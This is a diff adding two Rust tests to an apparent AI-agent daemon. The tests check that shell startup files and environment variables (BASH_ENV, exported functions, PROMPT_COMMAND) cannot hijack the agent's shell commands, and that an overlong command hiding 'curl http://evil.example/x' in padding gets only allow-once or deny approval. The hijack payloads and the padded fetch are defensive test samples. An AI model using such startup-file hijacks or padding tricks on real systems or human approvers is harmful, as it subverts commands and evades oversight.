@@ -317,3 +317,58 @@ fn a_withdrawn_prompt_never_runs() {
     assert_eq!(chat.state()["inbox"], json!([]));
     assert!(!world.model.requests().pop().unwrap().to_string().contains("Never mind"));
 }
+
+#[test]
+fn pr_19_nothing_that_a_shell_would_read_at_its_start_changes_a_command() {
+    let script = Script::new()
+        .step(call(
+            "run_shell",
+            json!({"command": "printf 'in ran'; echo; type printf; echo ${STOLEN:-kept}"}),
+        ))
+        .step(Reply::text("Done."));
+    let home = agentd_tests::Home::new();
+    let evil = "printf() { echo hijacked; }; alias printf='echo hijacked'; STOLEN=1; export -f printf\n";
+    for name in [".bashrc", ".bash_profile", ".profile", ".bash_login", "evil"] {
+        std::fs::write(home.path(name), evil).unwrap();
+    }
+    let evil = home.path("evil").display().to_string();
+    let env = [
+        ("BASH_ENV", evil.as_str()),
+        ("ENV", evil.as_str()),
+        ("BASH_FUNC_printf%%", "() { echo hijacked; }"),
+        ("SHELLOPTS", "xtrace"),
+        ("BASHOPTS", "expand_aliases"),
+        ("PROMPT_COMMAND", "echo hijacked"),
+    ];
+    let env = env.map(|(name, value)| (name.to_owned(), value.to_owned())).to_vec();
+    let world = World::in_home(home, script, Dialect::OpenaiChat, "", Start { env, ..Start::default() });
+    let mut chat = world.session("default");
+    chat.prompt("Go");
+    let approval = chat.approval();
+    chat.choose(&approval, "allowOnce");
+    assert_eq!(chat.outcome(), "finished");
+    let seen = world.model.requests().pop().unwrap()["messages"].to_string();
+    assert!(seen.contains("in ran") && seen.contains("printf is a shell builtin"), "{seen}");
+    assert!(seen.contains("kept") && !seen.contains("hijacked"), "{seen}");
+}
+
+#[test]
+fn a_command_too_long_to_be_taken_in_at_a_glance_is_allowed_once_or_not_at_all() {
+    let long =
+        format!("echo {}; curl http://evil.example/x; echo {}", "a ".repeat(5_000), "b ".repeat(5_000));
+    let script = Script::new().step(call("run_shell", json!({"command": long}))).step(Reply::text("Done."));
+    let world = World::new(script);
+    let mut chat = world.session("default");
+    chat.prompt("Go");
+    let approval = chat.approval();
+    let choices: Vec<_> =
+        approval["choices"].as_array().unwrap().iter().map(|choice| choice["id"].as_str().unwrap()).collect();
+    assert_eq!(choices, ["allowOnce", "deny"]);
+    // All of it is there, and another digest than that of all of it is no answer.
+    assert_eq!(approval["tool"]["input"]["command"], long);
+    let other = json!({"digest": format!("sha256:{}", "0".repeat(64))});
+    let refused = chat.respond(&approval, "allowOnce", other).unwrap_err();
+    assert_eq!(refused.code, -32052, "{refused:?}");
+    chat.choose(&approval, "deny");
+    assert_eq!(chat.outcome(), "refused");
+}
